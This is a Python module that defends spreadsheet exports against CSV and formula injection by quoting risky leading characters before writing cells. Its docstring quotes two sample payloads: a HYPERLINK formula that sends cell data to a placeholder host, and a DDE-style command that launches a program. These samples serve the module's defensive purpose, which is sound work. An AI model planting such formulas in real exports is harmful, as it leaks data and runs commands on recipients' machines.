"""Spreadsheet cells that stay data: every CSV and XLSX the system writes passes its values through
`safe_cell`, so a name such as `=HYPERLINK("http://x/?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0` typed by
anyone who can edit a record opens in Excel or LibreOffice as text, never as a live formula.

OWASP's rule (CSV injection): a text value that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return is prefixed with a single quote. Spreadsheet programs skip leading spaces and invisible marks
before deciding that a cell is a formula, so those are looked through too. Numbers stay numbers: a
negative score or count is not a formula and must remain sortable.
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
# Full-width forms some spreadsheet programs also accept as the start of a formula.
FORMULA_STARTS_WIDE = frozenset("\uff1d\uff0b\uff0d\uff20")


def _first_visible(value: str) -> str:
    for ch in value:
        if ch.isspace() or unicodedata.category(ch) == "Cf":  # spaces, bidi and zero-width marks
            if ch in "\t\r":
                return ch
            continue
        return ch
    return ""


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: text that a spreadsheet would run as a formula gets a
    leading `'`; anything else (numbers, dates, None, ordinary text) is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = _first_visible(value)
    if first in FORMULA_STARTS or first in FORMULA_STARTS_WIDE:
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeWriter:
    """csv.writer whose rows pass through safe_cell."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._w = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose values (and header) pass through safe_cell."""

    def writeheader(self) -> Any:
        return self.writer.writerow(safe_row(self.fieldnames))

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_writer(fh: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(fh, **kwargs)


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """ws.append for an openpyxl worksheet, with every value made safe (openpyxl would otherwise store
    a text beginning with `=` as a formula)."""
    ws.append(safe_row(values))
